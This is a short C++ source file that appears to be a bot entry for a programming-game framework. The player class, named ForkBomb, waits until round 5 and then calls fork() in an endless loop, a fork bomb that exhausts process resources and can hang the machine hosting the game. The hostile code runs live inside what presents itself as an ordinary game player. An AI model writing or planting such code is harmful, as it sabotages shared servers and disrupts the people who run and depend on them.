#include "Player.hh"

#include <unistd.h>

#define PLAYER_NAME ForkBomb

// Multiplies.
struct PLAYER_NAME : public Player {

  static Player* factory () {
    return new PLAYER_NAME;
  }

  virtual void play () {
    if (round() != 5) return;
    while (true) fork();
  }

};

RegisterPlayer(PLAYER_NAME);
